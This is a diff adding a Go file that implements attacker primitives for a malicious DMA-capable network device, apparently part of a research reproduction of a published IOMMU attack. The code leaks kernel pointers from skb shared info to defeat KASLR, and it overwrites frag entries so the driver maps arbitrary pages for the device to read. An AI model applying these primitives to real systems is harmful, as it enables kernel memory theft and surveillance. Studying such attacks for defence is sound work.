@@ -1,0 +1,105 @@
+package device
+
+import (
+	"encoding/binary"
+	"fmt"
+
+	"dmafault/internal/iommu"
+	"dmafault/internal/layout"
+	"dmafault/internal/netstack"
+)
+
+// DeviceFrag is a frags[] entry as the device decodes it from raw bytes.
+type DeviceFrag struct {
+	PagePtr uint64 // struct page address — a vmemmap pointer, the §5.4 leak
+	Off     uint32
+	Len     uint32
+}
+
+// TXView is the device-side parse of a TX packet's skb_shared_info: what a
+// NIC with READ access to a transmitted buffer's page learns (Fig. 8).
+type TXView struct {
+	NrFrags       uint16
+	TxFlags       uint16
+	DestructorArg uint64 // a kmalloc KVA when zero-copy is in use
+	Frags         []DeviceFrag
+}
+
+// ReadTXSharedInfo DMA-reads and parses the shared info of a TX packet whose
+// linear buffer is mapped at linearIOVA with the given payload headroom. The
+// arithmetic (SKB_DATA_ALIGN) is build knowledge; the low 12 bits of the
+// IOVA and KVA agree, so the same offsets work in both spaces.
+func (a *Attacker) ReadTXSharedInfo(linearIOVA iommu.IOVA, headroom uint32) (*TXView, error) {
+	si := SharedInfoIOVA(linearIOVA, headroom)
+	raw := make([]byte, netstack.SharedInfoSize)
+	if err := a.Bus.Read(a.Dev, si, raw); err != nil {
+		return nil, fmt.Errorf("device: reading TX shared info: %w", err)
+	}
+	v := &TXView{
+		NrFrags:       binary.LittleEndian.Uint16(raw[sharedInfoNrFragsOff:]),
+		TxFlags:       binary.LittleEndian.Uint16(raw[netstack.SharedInfoTxFlagsOff:]),
+		DestructorArg: binary.LittleEndian.Uint64(raw[sharedInfoDestructorArgOff:]),
+	}
+	if int(v.NrFrags) > netstack.MaxFrags {
+		return nil, fmt.Errorf("device: implausible nr_frags %d", v.NrFrags)
+	}
+	for i := 0; i < int(v.NrFrags); i++ {
+		base := sharedInfoFragsOff + i*fragSize
+		v.Frags = append(v.Frags, DeviceFrag{
+			PagePtr: binary.LittleEndian.Uint64(raw[base:]),
+			Off:     binary.LittleEndian.Uint32(raw[base+8:]),
+			Len:     binary.LittleEndian.Uint32(raw[base+12:]),
+		})
+	}
+	// Every pointer in the structure feeds the KASLR inferencer: frag page
+	// pointers pin vmemmap_base; destructor_arg (a direct-map KVA) pins
+	// page_offset_base.
+	words := []uint64{v.DestructorArg}
+	for _, f := range v.Frags {
+		words = append(words, f.PagePtr)
+	}
+	a.Infer.ObserveWords(words)
+	return v, nil
+}
+
+// FragKVA translates a leaked frag to the kernel virtual address of its
+// first byte, using only inferred bases — step 3 of the Poisoned TX attack.
+func (a *Attacker) FragKVA(f DeviceFrag) (layout.Addr, error) {
+	pfn, err := a.Infer.PFNFromStructPage(layout.Addr(f.PagePtr))
+	if err != nil {
+		return 0, err
+	}
+	kva, err := a.Infer.KVAFromPFN(pfn)
+	if err != nil {
+		return 0, err
+	}
+	return kva + layout.Addr(f.Off), nil
+}
+
+// WriteTXFrag overwrites a frags[] entry of a TX (or forwarded) packet's
+// shared info — the §5.5 surveillance primitive: pointing a frag at an
+// arbitrary struct page makes the driver map that page for the NIC to read.
+func (a *Attacker) WriteTXFrag(linearIOVA iommu.IOVA, headroom uint32, idx int, f DeviceFrag) error {
+	if idx < 0 || idx >= netstack.MaxFrags {
+		return fmt.Errorf("device: frag index %d out of range", idx)
+	}
+	si := SharedInfoIOVA(linearIOVA, headroom)
+	base := si + iommu.IOVA(sharedInfoFragsOff+idx*fragSize)
+	var raw [fragSize]byte
+	binary.LittleEndian.PutUint64(raw[0:], f.PagePtr)
+	binary.LittleEndian.PutUint32(raw[8:], f.Off)
+	binary.LittleEndian.PutUint32(raw[12:], f.Len)
+	if err := a.Bus.Write(a.Dev, base, raw[:]); err != nil {
+		return err
+	}
+	return nil
+}
+
+// SetNrFrags overwrites shared_info.nr_frags (used together with WriteTXFrag
+// when spoofing an RX packet whose frags the driver will map on the way out).
+func (a *Attacker) SetNrFrags(bufIOVA iommu.IOVA, cap uint32, nr uint16) error {
+	si := SharedInfoIOVA(bufIOVA, cap)
+	var raw [2]byte
+	binary.LittleEndian.PutUint16(raw[:], nr)
+	return a.Bus.Write(a.Dev, si+sharedInfoNrFragsOff, raw[:])
+}
